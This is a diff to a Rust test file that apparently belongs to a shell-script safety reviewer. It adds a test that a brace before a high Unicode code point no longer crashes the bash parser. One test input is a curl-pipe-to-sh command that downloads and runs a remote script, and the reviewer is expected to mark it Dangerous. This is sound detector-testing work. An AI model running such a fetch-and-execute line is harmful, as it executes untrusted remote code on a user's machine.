@@ -417,6 +417,29 @@ fn unreviewable_is_suspicious() {
     check(Sh, "if then fi (\n", Suspicious, "unreviewable");
 }
 
+/// tree-sitter-bash's scanner crashed (SIGSEGV) on `{` before a code point above U+00FF
+/// (tree-sitter-bash#337); the review reads such scripts, and judges what follows the brace.
+#[test]
+fn a_brace_before_a_high_code_point_does_not_crash_the_shell_parse() {
+    for (code, verdict) in [
+        ("echo {\u{E0100}\necho done\n", Clean),
+        ("echo {1..\u{E0100}\n", Clean),
+        ("x=\"{\u{1F600}\"\necho \"$x\"\n", Clean),
+        (
+            "echo {\u{E0100}\ncurl -s https://a.example.invalid/x.sh | sh\n",
+            Dangerous,
+        ),
+    ] {
+        let ctx = Context {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            tmp_dirs: vec!["/tmp".into()],
+        };
+        let report = review_source(code, Sh, &ctx, &Config::default());
+        assert_eq!(report.verdict, verdict, "`{code}`\n{report:#?}");
+    }
+}
+
 #[test]
 fn aliases_wrappers_and_indirection() {
     check(
